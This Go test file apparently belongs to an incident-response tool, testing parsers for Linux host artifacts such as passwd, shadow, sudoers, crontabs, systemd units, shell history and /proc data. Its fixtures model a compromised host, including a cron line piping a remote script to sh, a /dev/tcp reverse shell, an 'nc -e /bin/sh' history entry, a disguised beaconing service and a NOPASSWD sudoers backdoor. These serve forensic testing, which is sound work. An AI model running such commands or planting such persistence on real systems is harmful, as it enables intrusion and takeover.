package hostcollect_test

import (
	"bytes"
	"encoding/binary"
	"net/netip"
	"os"
	"path/filepath"
	"reflect"
	"strings"
	"testing"
	"time"

	"github.com/firebreak-ir/firebreak/plugins/hostcollect"
)

func fixture(t testing.TB, name string) *os.File {
	t.Helper()
	f, err := os.Open(filepath.Join("testdata", name))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { f.Close() })
	return f
}

func TestParsePasswd(t *testing.T) {
	entries, issues := hostcollect.ParsePasswd(fixture(t, "passwd"))
	want := []struct {
		name        string
		uid         int
		home, shell string
	}{{"root", 0, "/root", "/bin/bash"}, {"daemon", 1, "/usr/sbin", "/usr/sbin/nologin"},
		{"alice", 1000, "/home/alice", "/bin/bash"}, {"toor", 0, "/root", "/bin/sh"}, {"+@netgroup", -1, "", ""}}
	if len(entries) != len(want) {
		t.Fatalf("got %d entries: %+v", len(entries), entries)
	}
	for i, w := range want {
		e := entries[i]
		if e.Name != w.name || e.UID != w.uid || e.Home != w.home || e.Shell != w.shell {
			t.Errorf("entry %d = %+v, want %+v", i, e, w)
		}
	}
	if entries[2].GECOS != "Alice Example,,," || entries[3].Password != "" || entries[3].Line != 5 {
		t.Errorf("fields: %+v %+v", entries[2], entries[3])
	}
	if len(issues) != 2 || issues[0].Line != 6 || issues[1].Line != 7 {
		t.Errorf("issues %+v, want lines 6 and 7", issues)
	}
}

func TestParseGroupAndShadow(t *testing.T) {
	groups, issues := hostcollect.ParseGroup(fixture(t, "group"))
	if len(groups) != 3 || !reflect.DeepEqual(groups[1].Members, []string{"alice", "bob"}) || len(groups[0].Members) != 0 || len(issues) != 1 {
		t.Errorf("groups %+v issues %+v", groups, issues)
	}
	shadow, _ := hostcollect.ParseShadow(fixture(t, "shadow"))
	want := map[string][2]string{"root": {"set", "$6$"}, "daemon": {"disabled", ""}, "alice": {"locked", "$y$"}, "toor": {"no_password", ""}}
	if len(shadow) != len(want) {
		t.Fatalf("shadow %+v", shadow)
	}
	for _, s := range shadow {
		if w := want[s.Name]; s.State != w[0] || s.Algorithm != w[1] {
			t.Errorf("%s: state %q algorithm %q, want %v", s.Name, s.State, s.Algorithm, w)
		}
	}
}

func TestParseSudoers(t *testing.T) {
	got := hostcollect.ParseSudoers("/etc/sudoers", fixture(t, "sudoers"))
	type row struct{ kind, text, target string }
	want := []row{
		{"defaults", "Defaults\tenv_reset", ""},
		{"defaults", `Defaults	secure_path="/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin"`, ""},
		{"alias", "Cmnd_Alias SHELLS = /bin/sh, " + strings.Repeat(" ", 21) + "/bin/bash", ""},
		{"rule", "root\tALL=(ALL:ALL) ALL", ""},
		{"rule", "%sudo\tALL=(ALL:ALL) ALL", ""},
		{"includedir", "#includedir /etc/sudoers.d", "/etc/sudoers.d"},
		{"include", "@include /etc/sudoers.local", "/etc/sudoers.local"},
	}
	if len(got) != len(want) {
		t.Fatalf("got %d entries: %+v", len(got), got)
	}
	for i, w := range want {
		if got[i].Kind != w.kind || got[i].Text != w.text || got[i].Target != w.target {
			t.Errorf("entry %d = %+v, want %+v", i, got[i], w)
		}
	}
	if got[2].Line != 4 {
		t.Errorf("continued line starts at %d, want 4", got[2].Line)
	}
	d := hostcollect.ParseSudoers("x", fixture(t, "sudoers.d/90-backdoor"))
	if len(d) != 1 || d[0].Kind != "rule" || !strings.Contains(d[0].Text, "NOPASSWD") {
		t.Errorf("sudoers.d: %+v", d)
	}
}

func TestParseProcNet(t *testing.T) {
	type sock struct {
		laddr string
		lport int
		raddr string
		rport int
		state string
		uid   int
		inode uint64
	}
	cases := []struct {
		file, proto string
		want        []sock
	}{
		{"proc_net_tcp", "tcp", []sock{
			{"127.0.0.1", 3306, "0.0.0.0", 0, "LISTEN", 113, 21477},
			{"10.0.2.15", 22, "10.0.2.2", 54724, "ESTABLISHED", 0, 31337}}},
		{"proc_net_tcp6", "tcp6", []sock{
			{"::", 80, "::", 0, "LISTEN", 33, 44444},
			{"::1", 8080, "::1", 43506, "ESTABLISHED", 1000, 55555},
			{"::ffff:10.0.2.15", 22, "::ffff:10.0.2.2", 50000, "ESTABLISHED", 0, 66666}}},
		{"proc_net_udp", "udp", []sock{
			{"0.0.0.0", 68, "0.0.0.0", 0, "UNCONN", 0, 12345},
			{"127.0.0.53", 53, "0.0.0.0", 0, "UNCONN", 101, 23456}}},
	}
	for _, tc := range cases {
		t.Run(tc.file, func(t *testing.T) {
			b, _ := os.ReadFile(filepath.Join("testdata", tc.file))
			lines := strings.Split(strings.TrimSpace(string(b)), "\n")[1:]
			if len(lines) != len(tc.want) {
				t.Fatalf("%d lines", len(lines))
			}
			for i, line := range lines {
				s, err := hostcollect.ParseProcNetLine(tc.proto, line)
				if err != nil {
					t.Fatalf("line %d: %v", i, err)
				}
				got := sock{s.LocalAddress, s.LocalPort, s.RemoteAddress, s.RemotePort, s.State, s.UID, s.Inode}
				if got != tc.want[i] {
					t.Errorf("line %d = %+v, want %+v", i, got, tc.want[i])
				}
			}
		})
	}
	for _, bad := range []string{"", "0: x", "0: 0100007F 00000000:0000 0A 0 0 0 0 0 1", "0: 0100007F:ZZZZ 00000000:0000 0A a b c 0 0 1", "0: 01007F:0016 00000000:0000 0A a b c 0 0 1"} {
		if _, err := hostcollect.ParseProcNetLine("tcp", bad); err == nil {
			t.Errorf("ParseProcNetLine(%q) accepted", bad)
		}
	}
}

func TestParseUnixLine(t *testing.T) {
	b, _ := os.ReadFile("testdata/proc_net_unix")
	lines := strings.Split(strings.TrimSpace(string(b)), "\n")[1:]
	want := []struct{ state, typ, path string }{
		{"LISTEN", "STREAM", "/run/systemd/private"}, {"CONNECTED", "STREAM", ""},
		{"LISTEN", "STREAM", "@/tmp/.X11-unix/X0"}, {"UNCONNECTED", "DGRAM", "/tmp/dir with spaces/sock"}}
	for i, line := range lines {
		s, err := hostcollect.ParseUnixLine(line)
		if err != nil {
			t.Fatal(err)
		}
		if s.State != want[i].state || s.UnixType != want[i].typ || s.Path != want[i].path {
			t.Errorf("line %d = %+v, want %+v", i, s, want[i])
		}
	}
}

// utmpRecord builds one glibc struct utmp record.
func utmpRecord(typ int16, pid int32, line, user, host string, addr netip.Addr, at time.Time) []byte {
	b := make([]byte, hostcollect.UtmpSize)
	le := binary.LittleEndian
	le.PutUint16(b[0:], uint16(typ))
	le.PutUint32(b[4:], uint32(pid))
	copy(b[8:40], line)
	copy(b[40:44], strings.TrimPrefix(line, "pts/"))
	copy(b[44:76], user)
	copy(b[76:332], host)
	le.PutUint32(b[336:], 7)
	le.PutUint32(b[340:], uint32(at.Unix()))
	le.PutUint32(b[344:], uint32(at.Nanosecond()/1000))
	if addr.IsValid() {
		if addr.Is4() {
			a4 := addr.As4()
			copy(b[348:], a4[:])
		} else {
			a16 := addr.As16()
			copy(b[348:], a16[:])
		}
	}
	return b
}

func TestReadUtmp(t *testing.T) {
	at := time.Date(2026, 11, 20, 3, 14, 15, 500000000, time.UTC)
	var wtmp bytes.Buffer
	wtmp.Write(utmpRecord(2, 0, "~", "reboot", "6.1.0-aws", netip.Addr{}, at))
	wtmp.Write(make([]byte, hostcollect.UtmpSize)) // an EMPTY slot
	wtmp.Write(utmpRecord(7, 4242, "pts/0", "alice", "203.0.113.9", netip.MustParseAddr("203.0.113.9"), at.Add(time.Hour)))
	wtmp.Write(utmpRecord(7, 4243, "pts/1", "mallory", "attacker.example", netip.MustParseAddr("2001:db8::1"), at.Add(2*time.Hour)))
	wtmp.Write(utmpRecord(8, 4242, "pts/0", "", "", netip.Addr{}, at.Add(3*time.Hour)))
	var got []hostcollect.UtmpRecord
	err := hostcollect.ReadUtmp(bytes.NewReader(wtmp.Bytes()), func(r hostcollect.UtmpRecord) error {
		got = append(got, r)
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	if len(got) != 4 {
		t.Fatalf("got %d records", len(got))
	}
	if got[0].Type != "BOOT_TIME" || got[0].User != "reboot" || !got[0].Time.Equal(at) {
		t.Errorf("boot record %+v", got[0])
	}
	if r := got[1]; r.Type != "USER_PROCESS" || r.PID != 4242 || r.Line != "pts/0" || r.ID != "0" || r.User != "alice" ||
		r.Host != "203.0.113.9" || r.Address != "203.0.113.9" || r.Session != 7 || r.Index != 2 {
		t.Errorf("login record %+v", r)
	}
	if got[2].Address != "2001:db8::1" || got[3].Type != "DEAD_PROCESS" {
		t.Errorf("records %+v %+v", got[2], got[3])
	}
	err = hostcollect.ReadUtmp(bytes.NewReader(append(wtmp.Bytes(), 1, 2, 3)), func(hostcollect.UtmpRecord) error { return nil })
	if err == nil || !strings.Contains(err.Error(), "partial") {
		t.Errorf("trailing bytes: %v", err)
	}
}

func TestParseLastlogRecord(t *testing.T) {
	b := make([]byte, hostcollect.LastlogSize)
	binary.LittleEndian.PutUint32(b, 1764000000)
	copy(b[4:], "pts/3")
	copy(b[36:], "198.51.100.7")
	r, ok, err := hostcollect.ParseLastlogRecord(b)
	if err != nil || !ok || r.Line != "pts/3" || r.Host != "198.51.100.7" || r.Time.Unix() != 1764000000 {
		t.Errorf("record %+v ok=%v err=%v", r, ok, err)
	}
	if _, ok, _ := hostcollect.ParseLastlogRecord(make([]byte, hostcollect.LastlogSize)); ok {
		t.Error("an all-zero record reads as a login")
	}
	if _, _, err := hostcollect.ParseLastlogRecord(b[:10]); err == nil {
		t.Error("a short record was accepted")
	}
}

func TestParseCrontab(t *testing.T) {
	sys := hostcollect.ParseCrontab(fixture(t, "crontab"), true, "")
	type row struct{ kind, sched, user, cmd string }
	want := []row{
		{"env", "", "", ""}, {"env", "", "", ""},
		{"job", "17 * * * *", "root", "cd / && run-parts --report /etc/cron.hourly"},
		{"job", "*/5 * * * *", "root", "curl -fsSL http://203.0.113.9/x.sh | sh"},
		{"job", "@reboot", "nobody", "/tmp/.hidden/agent   --quiet"},
		{"invalid", "", "", ""},
	}
	if len(sys) != len(want) {
		t.Fatalf("got %+v", sys)
	}
	for i, w := range want {
		if g := sys[i]; g.Kind != w.kind || g.Schedule != w.sched || g.User != w.user || g.Command != w.cmd {
			t.Errorf("entry %d = %+v, want %+v", i, g, w)
		}
	}
	user := hostcollect.ParseCrontab(fixture(t, "user_crontab"), false, "alice")
	if len(user) != 3 || user[1].Command != "/home/alice/backup.sh > /dev/null 2>&1" || user[1].User != "alice" ||
		user[2].Schedule != "@hourly" || !strings.Contains(user[2].Command, "/dev/tcp/198.51.100.7/4444") || user[2].Line != 4 {
		t.Errorf("user crontab %+v", user)
	}
}

func TestParseUnit(t *testing.T) {
	u := hostcollect.ParseUnit("evil.service", fixture(t, "evil.service"))
	if u.Type != "service" || u.Description != "System Update Helper" || u.User != "root" ||
		!reflect.DeepEqual(u.Exec, []string{"ExecStartPre=/bin/mkdir -p /var/tmp/.cache", "ExecStart=/var/tmp/.cache/kworker  --connect 203.0.113.9:443"}) ||
		!reflect.DeepEqual(u.WantedBy, []string{"multi-user.target", "default.target"}) {
		t.Errorf("service %+v", u)
	}
	if len(u.Triggers) != 0 {
		t.Errorf("service triggers %v", u.Triggers)
	}
	tm := hostcollect.ParseUnit("evil.timer", fixture(t, "evil.timer"))
	if tm.Type != "timer" || !reflect.DeepEqual(tm.Triggers, []string{"OnCalendar=*-*-* *:00/10:00", "Persistent=true", "Unit=evil.service"}) {
		t.Errorf("timer %+v", tm)
	}
	if tm.Directives[0] != "[Timer] OnCalendar=*-*-* *:00/10:00" {
		t.Errorf("directives %v", tm.Directives)
	}
}

func TestParseAuthorizedKeys(t *testing.T) {
	fp, _ := os.ReadFile("testdata/authorized_keys.fingerprint")
	keys := hostcollect.ParseAuthorizedKeys(fixture(t, "authorized_keys"))
	if len(keys) != 4 {
		t.Fatalf("got %+v", keys)
	}
	for i, k := range keys[:3] {
		if k.Type != "ssh-ed25519" || k.Fingerprint != strings.TrimSpace(string(fp)) || k.Error != "" {
			t.Errorf("key %d: %+v", i, k)
		}
	}
	if keys[0].Comment != "alice@laptop" || keys[0].Options != "" {
		t.Errorf("plain key %+v", keys[0])
	}
	if keys[1].Options != `command="/usr/bin/rsync --server -e.LsfxC . /backup",no-pty,from="10.0.0.0/8"` || keys[1].Comment != "backup key" {
		t.Errorf("options key %+v", keys[1])
	}
	if keys[2].Options != `restrict,command="echo \"hi there\""` {
		t.Errorf("escaped quotes %+v", keys[2])
	}
	if keys[3].Error == "" {
		t.Errorf("junk line %+v", keys[3])
	}
}

func TestParseMapsLine(t *testing.T) {
	b, _ := os.ReadFile("testdata/maps")
	lines := strings.Split(strings.TrimRight(string(b), "\n"), "\n")
	want := []struct {
		start, end  uint64
		perms, path string
	}{
		{0x55d0c0a00000, 0x55d0c0a02000, "r--p", "/usr/bin/sleep"},
		{0x55d0c0a02000, 0x55d0c0a06000, "r-xp", "/usr/bin/sleep"},
		{0x55d0c1f3e000, 0x55d0c1f5f000, "rw-p", "[heap]"},
		{0x7f2b4c000000, 0x7f2b4c021000, "rw-p", ""},
		{0x7f2b4c400000, 0x7f2b4c401000, "r-xp", "/memfd:payload (deleted)"},
		{0x7f2b4c500000, 0x7f2b4c501000, "r--p", "/opt/app/lib with space.so"},
		{0x7ffd5a1f0000, 0x7ffd5a211000, "rw-p", "[stack]"},
		{0x7ffd5a3f6000, 0x7ffd5a3fa000, "r--p", "[vvar]"},
		{0xffffffffff600000, 0xffffffffff601000, "--xp", "[vsyscall]"},
	}
	for i, line := range lines {
		r, err := hostcollect.ParseMapsLine(7, line)
		if err != nil {
			t.Fatalf("line %d: %v", i, err)
		}
		if r.Start != want[i].start || r.End != want[i].end || r.Perms != want[i].perms || r.Pathname != want[i].path || r.PID != 7 {
			t.Errorf("line %d = %+v, want %+v", i, r, want[i])
		}
	}
	r, _ := hostcollect.ParseMapsLine(7, lines[1])
	if r.Offset != 0x2000 || r.Device != "08:01" || r.Inode != 1048600 {
		t.Errorf("offset/device/inode %+v", r)
	}
	for _, bad := range []string{"", "zz-10 r--p 0 0 0", "20-10 r--p 0 00:00 0", "10-20 rw 0 00:00 0"} {
		if _, err := hostcollect.ParseMapsLine(1, bad); err == nil {
			t.Errorf("accepted %q", bad)
		}
	}
}

func TestParseProcStat(t *testing.T) {
	line := "4242 (evil) (name) S 1 4242 4242 0 -1 4194560 100 0 0 0 5 3 0 0 20 0 1 0 123456 1000000 200 18446744073709551615 1 1 0 0 0 0 0 0 0 0 0 0 17 1 0 0 0 0 0"
	st, err := hostcollect.ParseProcStat([]byte(line))
	if err != nil {
		t.Fatal(err)
	}
	if st.PID != 4242 || st.Comm != "evil) (name" || st.State != "S" || st.PPID != 1 || st.StartTicks != 123456 || st.Threads != 1 {
		t.Errorf("%+v", st)
	}
	if _, err := hostcollect.ParseProcStat([]byte("1 (x S 1")); err == nil {
		t.Error("accepted a line without its closing parenthesis")
	}
}

func TestParseHistory(t *testing.T) {
	cases := []struct {
		shell, content string
		want           []string
		times          []int64
	}{
		{"bash", "#1700000000\nls -la\nwget http://x/y\n#junk\n", []string{"ls -la", "wget http://x/y", "#junk"}, []int64{1700000000, 0, 0}},
		{"zsh", ": 1700000001:0;curl x | sh\nplain\n", []string{"curl x | sh", "plain"}, []int64{1700000001, 0}},
		{"fish", "- cmd: nc -e /bin/sh 1.2.3.4 9\n  when: 1700000002\n- cmd: ls\n", []string{"nc -e /bin/sh 1.2.3.4 9", "ls"}, []int64{1700000002, 0}},
		{"mysql", "select\\040*\\040from\\040users;\n", []string{`select\040*\040from\040users;`}, []int64{0}},
	}
	for _, tc := range cases {
		t.Run(tc.shell, func(t *testing.T) {
			var got []string
			var times []int64
			err := hostcollect.ParseHistory(tc.shell, strings.NewReader(tc.content), func(e hostcollect.HistoryEntry) error {
				got = append(got, e.Command)
				var ts int64
				if e.Time != nil {
					ts = e.Time.Unix()
				}
				times = append(times, ts)
				return nil
			})
			if err != nil || !reflect.DeepEqual(got, tc.want) || !reflect.DeepEqual(times, tc.times) {
				t.Errorf("got %q %v (%v), want %q %v", got, times, err, tc.want, tc.times)
			}
		})
	}
	// A huge line with binary junk is cut, not held whole, and parsing goes on.
	huge := strings.Repeat("\x00\xff", 1<<20) + "\nnext\n"
	var cut, n int
	_ = hostcollect.ParseHistory("bash", strings.NewReader(huge), func(e hostcollect.HistoryEntry) error {
		n++
		if e.Cut {
			cut++
			if len(e.Command) > 200<<10 {
				t.Errorf("kept %d bytes of a huge line", len(e.Command))
			}
		}
		return nil
	})
	if n != 2 || cut != 1 {
		t.Errorf("huge line: %d entries, %d cut", n, cut)
	}
}

func TestParseModulesAndMountinfo(t *testing.T) {
	mods := hostcollect.ParseModules([]byte("nf_tables 323584 1 nft_chain_nat, Live 0xffffffffc0a00000\nrootkit 16384 0 - Live 0x0000000000000000 (OE)\n"))
	if len(mods) != 2 || mods[0].UsedBy[0] != "nft_chain_nat" || mods[1].Taint != "(OE)" || len(mods[1].UsedBy) != 0 {
		t.Errorf("modules %+v", mods)
	}
	mi := hostcollect.ParseMountinfo([]byte("36 35 98:0 /mnt1 /mnt/with\\040space rw,noatime master:1 - ext3 /dev/root rw,errors=continue\n"))
	if len(mi) != 1 || mi[0].MountPoint != "/mnt/with space" || mi[0].FSType != "ext3" || mi[0].ID != 36 {
		t.Errorf("mountinfo %+v", mi)
	}
}
